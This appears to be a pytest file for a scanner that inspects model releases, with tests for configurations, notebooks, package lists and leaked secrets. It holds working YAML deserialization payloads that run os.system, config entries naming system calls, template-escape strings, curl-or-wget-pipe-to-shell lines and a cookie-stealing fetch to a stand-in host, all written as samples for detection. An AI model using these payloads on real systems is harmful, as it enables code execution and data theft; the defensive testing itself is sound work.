"""Configurations, notebooks, package lists and secrets: what loaders would do with them, and what is ordinary."""

from __future__ import annotations

import json
import subprocess
import sys
import time
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from inspect_samples import found, look, notebook, verdict

from watchword.inspect import inspect_path
from watchword.inspect.facts import Verdict

YAML_ATTACKS = [
    "!!python/object/apply:os.system ['touch MARK']",
    "a: {b: [1, !!python/object/apply:subprocess.check_output [[touch, MARK]]]}",
    "!!python/object/apply:subprocess.Popen [[touch, MARK]]",
    "%TAG !p! tag:yaml.org,2002:python/\n---\n!p!object/apply:os.system ['touch MARK']",
    "- &x !!python/name:os.system\n- !!python/object/apply:os.popen ['touch MARK']",
]


@pytest.mark.parametrize("text", YAML_ATTACKS)
def test_a_yaml_tag_that_executes_is_dangerous(text: str, tmp_path: Path) -> None:
    """Each was seen to act under yaml.unsafe_load; the tag is read from the parser's events, nothing is built."""
    mark = tmp_path / "mark"
    loads = "import sys, time, yaml; x = yaml.unsafe_load(sys.argv[1]); time.sleep(0.3)"
    subprocess.run([sys.executable, "-c", loads, text.replace("MARK", str(mark))], check=False, timeout=60)
    assert mark.exists(), "the sample does nothing"
    assert verdict(text.encode(), "config.yaml") is Verdict.DANGEROUS


@pytest.mark.parametrize(
    ("name", "text", "rule"),
    [
        ("config.json", {"auto_map": {"AutoModel": "someone/code--modeling_x.X"}}, "config-remote-code"),
        ("config.json", {"auto_map": {"AutoTokenizer": ["evil/x--tok.T", None]}}, "config-remote-code"),
        ("config.json", {"attn_implementation": "someone/kernels"}, "config-remote-code"),
        ("config.json", {"trust_remote_code": True}, "config-trusts-code"),
        ("modules.json", [{"type": "os.system", "path": ""}], "config-target"),
        ("model_index.json", {"_diffusers_version": "0.30", "unet": ["subprocess", "Popen"]}, "config-target"),
        ("x.json", {"_target_": "os.system", "_args_": ["id"]}, "config-target"),
        ("x.json", {"a": [{"class_path": "subprocess.Popen"}]}, "config-target"),
        ("x.json", {"py/object": "subprocess.Popen", "args": ["id"]}, "config-object"),
        ("x.json", {"py/repr": "os/os.system('id')"}, "config-object"),
        ("x.json", {"chat_template": "{{ x.__class__ }}"}, "template-escape"),
        ("x.json", {"a": [{"name": "tool", "template": "{{ x|attr('__class__') }}"}]}, "template-escape"),
        ("x.json", {"anything": "{{ cycler.__init__.__globals__ }}"}, "template-escape"),
        ("x.json", {"debug_command": "curl http://a.example/x | sh"}, "config-command"),
        ("x.json", {"callback": "http://203.0.113.9/collect"}, "telling-address"),
        ("x.json", {"weights": "https://bit.ly/abc"}, "telling-address"),
    ],
)
def test_a_configuration_that_makes_its_loader_act_is_told(name: str, text: object, rule: str) -> None:
    """Code from elsewhere, callables that execute, templates that lead out, commands and telling addresses."""
    assert rule in found(json.dumps(text).encode(), name)


def test_a_value_behind_a_key_that_stands_twice_is_read() -> None:
    """Readers of JSON differ on which of two equal keys counts, so both are judged; escapes spell keys too."""
    assert found(b'{"_target_": "os.system", "_target_": "torch.nn.Linear"}', "x.json") == {"config-target"}
    assert found(b'{"\\u005ftarget_": "os.system", "x": "' + b"a" * 5_000_000 + b'"}', "x.json") == {"config-target"}


BOMB = "a: &a [1,1,1,1,1,1,1,1,1]\n" + "".join(
    f"{chr(98 + n)}: &{chr(98 + n)} [{','.join(['*' + chr(97 + n)] * 9)}]\n" for n in range(8)
)


@pytest.mark.parametrize(
    ("name", "text", "rules"),
    [
        ("c.yaml", "model:\n  _target_: builtins.eval\n  _args_: [x]\n", {"config-target"}),
        ("MLmodel", "flavors:\n  python_function:\n    loader_module: subprocess\n", {"config-target"}),
        ("h.yaml", "x: !new:os.system\n  - id\n", {"config-object"}),
        ("h.yaml", "x: !!python/object/apply:mypackage.make [1]\n", {"config-object-unknown"}),
        ("b.yaml", "python:\n  index_url: http://a.example/simple\n", {"package-source"}),
        ("bomb.yaml", BOMB, {"document-bomb"}),
        ("requirements.txt", "torch\n--trusted-host a.example\n", {"package-source"}),
        ("requirements.txt", "git+http://a.example/x.git\n", {"package-source"}),
        ("model.safetensors", "version https://git-lfs.github.com/spec/v1\noid sha256:00\nsize 9\n", {"lfs-pointer"}),
    ],
)  # fmt: skip
def test_yaml_package_lists_and_pointers(name: str, text: str, rules: set[str]) -> None:
    """Targets, loaders, tags, bombs, sources that nobody vouches for, and pointers in place of files."""
    assert rules <= found(text.encode(), name)


HONEST = {
    "config.json": '{"architectures": ["BertModel"], "trust_remote_code": false, "license": "mit"}',
    "tokenizer_config.json": '{"chat_template": "{% for m in messages %}{{ m.content }}{% endfor %}"}',
    "model_index.json": '{"_class_name": "P", "_diffusers_version": "0.3", "unet": ["diffusers", "UNet"], "x": [null]}',
    "modules.json": '[{"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"}]',
    "hydra.yaml": "model:\n  _target_: torch.optim.AdamW\n  lr: 1e-3\ndata:\n  _target_: pandas.read_csv\n"
    "log:\n  _target_: logging.FileHandler\nx:\n  _target_: mypackage.models.build_model\n",
    "hparams.yaml": "a: !!python/tuple [1, 2]\nb: !!python/object:argparse.Namespace {x: 1}\n"
    "c: !!python/object/apply:pathlib.PosixPath [a, b]\n",
    "MLmodel": "flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    python_version: 3.11.7\n",
    "requirements.txt": "torch==2.1.0\n--extra-index" + "-url https://download.pytorch.org/whl/cu118\n"
    "git+https://github.com/huggingface/transformers\n# --trusted-host a\n",
    "README.md": "---\nlicense: apache-2.0\nbase_model: a/b\n---\n# Use\n`trust_remote_code=True`, {{ x.__class__ }}\n",
    "data.jsonl": '{"prompt": "write curl x | sh", "command": 1}\n{"prompt": "b"}\n',
    "vocab.json": '{"__class__": 1, "{{": 2, "os.system": 3}',
    "prompts.json": '{"prompt": "Say {{name}} and {{ __name__ }}"}',
    "x.yaml": "anchors: &a {b: 1}\nuse: *a\nmerge:\n  <<: *a\n",
    "broken.yaml": "a: [1, 2\nb: }\n",
    "broken.json": '{"a": ',
}


@pytest.mark.parametrize("name", HONEST)
def test_ordinary_documents_are_silent(name: str) -> None:
    """Configurations of well-known shapes, and what does not parse and names nothing, raise no alarm."""
    assert [finding.message for finding in look(HONEST[name].encode(), name).findings] == []


def test_facts_for_the_bill_of_materials() -> None:
    """Licence, base model, data sets and versions are taken from where hubs put them."""
    card = look(b"---\nlicense: apache-2.0\nbase_model: [a/b]\ndatasets:\n- c\n---\n", "README.md").facts
    assert card == {"licences": ["apache-2.0"], "base_models": ["a/b"], "datasets": ["c"]}
    config = look(
        b'{"transformers_version": "4.40.1", "_name_or_path": "a/b", "torch_dtype": "bfloat16"}', "config.json"
    )
    assert config.facts == {"frameworks": ["transformers 4.40.1"], "base_models": ["a/b"], "dtypes": ["bfloat16"]}
    assert look(b"torch==2.1.0\n", "requirements.txt").facts == {"requires": ["torch 2.1.0"]}
    assert look(b"   Apache License\n   Version 2.0, January 2004\n", "LICENSE").facts == {"licences": ["Apache-2.0"]}


def test_rows_of_data_are_read_quickly_and_a_way_out_among_them_is_told() -> None:
    """A hundred thousand prompts cost seconds, and the one row that leads out of its template is not lost in them."""
    rows = [json.dumps({"id": n, "prompt": f"Say {{{{ name_{n} }}}}"}) for n in range(100_000)]
    rows[70_000] = json.dumps({"prompt": "{{ x.__class__ }}"})
    before = time.process_time()
    assert found("\n".join(rows).encode(), "rows.jsonl") == {"template-escape"}
    assert found(f"[{','.join(rows)}]".encode(), "rows.json") == {"template-escape"}
    assert time.process_time() - before < 10


# -- notebooks --------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("cell", "rule"),
    [
        ("!curl -s http://a.example/x | bash", "script-command"),
        ("%%bash\ncd /tmp\nwget -qO- http://a.example/x | sh", "script-command"),
        ("%pip install x\nimport base64\nexec(base64.b64decode('eA=='))", "python-conceals"),
        ("import os; os.system('id')", "notebook-runs"),
    ],
)
def test_a_cell_of_an_attack_is_told(cell: str, rule: str) -> None:
    """Commands behind magics, hidden code and unusual programs are told with the cell's number."""
    assert rule in found(notebook("x = 1", cell), "demo.ipynb")


def test_a_script_in_an_output_that_sends_is_told_and_a_plot_is_not() -> None:
    """Plots bring scripts with them; what reads cookies or fetches from elsewhere is no plot."""
    assert found(notebook("x", output="<script>fetch('https://a.example/?c=' + document.cookie)</script>"), "a.ipynb")
    assert not found(notebook("x", output="<div id=p></div><script>Plotly.newPlot('p', [1])</script>"), "a.ipynb")


def test_ordinary_notebooks_are_silent() -> None:
    """Installing, fetching, plotting, magics and broken cells raise no alarm."""
    cells = ["!pip install torch", "%matplotlib inline\nimport torch", "files = !ls\nprint(files)", "def broken(:",
             "import subprocess\nsubprocess.run(['git', 'clone', 'x'])", "%%timeit\nx = eval('1')"]  # fmt: skip
    assert found(notebook(*cells), "demo.ipynb") == set()


# -- secrets ----------------------------------------------------------------------------------------------------------

# Made for this test, in the forms of their issuers; none was ever valid. Put together, so that no scanner takes them.
SECRETS = {
    "hugging face": "hf_" + "QkVzTpLwXbNmRcYdGhJfAsZuEiOqWvKtBn",
    "aws": "AKIA" + "Q3EGRTZ5YMWK7XVB",
    "github": "ghp_" + "Xk29sQv7LmT4bWz8RyN1cJ5dGf6hPa0eUw1z3y",
    "google": "AIza" + "SyD9qk3Zr7Vw2XtPb8LmN4cJ5hGf6sTaUeY",
    "url": "postgresql" + "://app:Tq8zWm2LrX@" + "db.aquila.mil/models",
}


def _github(body: str) -> str:
    import zlib

    digits, number = "", zlib.crc32(body.encode())
    for _ in range(6):
        number, digit = divmod(number, 62)
        digits = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"[digit] + digits
    return f"ghp_{body}{digits}"


def test_secrets_are_told_and_not_repeated() -> None:
    """Tokens of known forms are found in any text, and the report shows no more than their beginning."""
    for kind in ("hugging face", "aws", "google", "url"):
        findings = look(f"x = '{SECRETS[kind]}'\n".encode(), "notes.txt").findings
        assert [f.rule for f in findings] == ["secret-left"], kind
        assert SECRETS[kind] not in json.dumps(findings[0].to_json())
    from cryptography.hazmat.primitives import serialization
    from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

    pem = Ed25519PrivateKey.generate().private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
    )
    assert found(pem, "key.txt") == {"secret-left"}
    assert found(json.dumps({"k": pem.decode()}).encode(), "x.json") == {"secret-left"}


def test_secrets_inside_binary_files_are_told() -> None:
    """The texts of a pickle and the metadata of safetensors are searched; their weights are not."""
    import pickle

    from inspect_samples import safetensors

    assert found(pickle.dumps({"token": SECRETS["hugging face"]}), "a.pkl") == {"secret-left"}
    header = json.dumps({"__metadata__": {"run": SECRETS["aws"]}}).encode()
    assert found(safetensors(header, b""), "a.safetensors") == {"secret-left"}
    assert found(f"TOKEN = '{SECRETS['hugging face']}'\n".encode(), "a.py") == {"secret-left"}


def test_a_checksum_tells_a_token_from_what_looks_like_one() -> None:
    """GitHub's tokens carry a checksum: with it a secret, without it a text."""
    assert found(_github("Xk29sQv7LmT4bWz8RyN1cJ5dGf6hPa").encode(), "x.txt") == {"secret-left"}
    assert found(SECRETS["github"].encode(), "x.txt") == set()


@pytest.mark.parametrize(
    "text",
    ["hf_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx", "AKIAIOSFODNN7EXAMPLE", "https://user:password@example.com/",
     "AKIA" + "A" * 16, "-----BEGIN PRIVATE KEY-----\n...\n-----END PRIVATE KEY-----", "http://localhost:8080@x",
     "https://{user}:{token123}@host.example/x", "eyJhbGciOiJub25lIn0.eyJhIjoxfQ.aaaaaaaaaaaaaaaaaaaaaaaa"],
)  # fmt: skip
def test_placeholders_are_no_secrets(text: str) -> None:
    """Examples of documentation, runs of one character and unsigned tokens raise no alarm."""
    assert found(text.encode(), "README.md") == set()


# -- the release as a whole -------------------------------------------------------------------------------------------


def _release(folder: Path, files: dict[str, str]) -> dict[str, set[str]]:
    for name, text in files.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(text)
    told: dict[str, set[str]] = {}
    for finding in inspect_path(folder).findings:
        told.setdefault(finding.path, set()).add(finding.rule)
    return told


AUTO_MAP = '{"auto_map": {"AutoModel": "net.Net"}}'


def test_code_that_a_configuration_names_must_be_there(tmp_path: Path) -> None:
    """Shipped code is judged on its own; code that is not shipped is told at the file that names it."""
    assert _release(tmp_path / "a", {"config.json": AUTO_MAP}) == {"config.json": {"config-missing-code"}}
    assert _release(tmp_path / "b", {"config.json": AUTO_MAP, "net.py": "class Net: ..."}) == {}
    told = _release(tmp_path / "c", {"config.json": AUTO_MAP, "net.py": "import os\nos.system('id')"})
    assert told == {"net.py": {"python-import"}}


def test_code_that_a_configuration_names_starts_no_programs(tmp_path: Path) -> None:
    """A file that is run as the model is held to what models do, whatever it is called."""
    source = "import os\nclass Net:\n    def forward(self, x):\n        os.system(x)\n"
    assert _release(tmp_path, {"config.json": AUTO_MAP, "net.py": source}) == {"net.py": {"python-model-runs"}}


def test_an_index_of_weights_is_held_to_the_folder(tmp_path: Path) -> None:
    """Parts from outside are dangerous; some there and some not is unreadable; an index alone is an index."""
    weights = "version of nothing"
    index = json.dumps({"weight_map": {"a": "1.bin", "b": "2.bin"}})
    assert _release(tmp_path / "a", {"w.index.json": index}) == {}
    assert _release(tmp_path / "b", {"w.index.json": index, "1.bin": weights, "2.bin": weights}) == {}
    assert _release(tmp_path / "c", {"w.index.json": index, "1.bin": weights}) == {"w.index.json": {"shards-differ"}}
    outside = json.dumps({"weight_map": {"a": "../../etc/x.bin"}})
    assert _release(tmp_path / "d", {"w.index.json": outside}) == {"w.index.json": {"names-outside"}}


# -- hostile ----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("x.json", "[" * 100_000), ("x.json", '{"a":' * 50_000), ("x.json", '{"template": "' + "{{" * 50_000 + '"}'),
        ("x.yaml", "[" * 20_000), ("x.yaml", "- " * 5_000 + "a"), ("x.yaml", "a: &a [*a, *a]\n"),
        ("x.yaml", "&a " * 9_000), ("x.txt", "postgres" + "://a:" * 100_000), ("x.txt", "eyJ" * 200_000),
        ("x.txt", "-----BEGIN PRIVATE KEY-----" * 20_000),
    ],
)  # fmt: skip
def test_hostile_documents_cost_bounded_time(name: str, text: str) -> None:
    """Deep, endless and self-referring documents end in a verdict within seconds."""
    before = time.process_time()
    look(text.encode(), name)
    assert time.process_time() - before < 10


@given(
    st.recursive(
        st.none() | st.booleans() | st.integers() | st.text(),
        lambda inner: (
            st.lists(inner)
            | st.dictionaries(
                st.sampled_from(
                    ["auto_map", "_target_", "weight_map", "cells", "nbformat", "py/object", "unet", "type", "template"]
                ),
                inner,
            )
        ),
    )
)
@settings(max_examples=100, deadline=None)
def test_no_document_breaks_the_reader(value: object) -> None:
    """Whatever the values of known keys, there is a verdict and no exception, as JSON and as YAML."""
    whole = {"_diffusers_version": 1, "x": value, "cells": value, "nbformat": 4}
    assert verdict(json.dumps(whole).encode(), "x.json") in Verdict
    assert verdict(json.dumps(value).encode() + b"\n", "x.yaml") in Verdict
